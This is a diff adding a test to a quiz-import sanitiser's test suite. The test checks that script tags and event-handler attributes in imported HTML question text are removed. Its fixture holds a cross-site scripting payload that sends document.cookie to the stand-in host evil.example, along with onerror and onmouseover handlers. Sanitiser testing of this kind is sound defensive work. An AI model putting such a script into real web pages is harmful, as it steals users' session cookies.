@@ -117,3 +117,15 @@ def test_sanitiser_sees_every_html_fragment() -> None:
     item = parse(quiz, "q.xml", sanitise=lambda s: s.replace("<script>", "").replace(
         "</script>", "").replace(' onclick="x()"', "")).items[0]
     assert "<script>" not in repr(item.content) and "onclick" not in repr(item.content)
+
+
+def test_scripts_in_imported_html_are_removed_by_default() -> None:
+    quiz = b"""<quiz><question type="truefalse"><name><text>Script</text></name>
+      <questiontext format="html"><text><![CDATA[<p onmouseover="steal()">Vrai?</p>
+      <script>document.location='https://evil.example/'+document.cookie</script>
+      <img src="x.png" alt="x" onerror="steal()">]]></text></questiontext>
+      <answer fraction="100"><text>true</text></answer>
+      <answer fraction="0"><text>false</text></answer></question></quiz>"""
+    stem = parse(quiz, "script.xml").items[0].content["stem"]["fr"]
+    assert "script" not in stem and "steal" not in stem and "evil" not in stem
+    assert "Vrai?" in stem and 'alt="x"' in stem
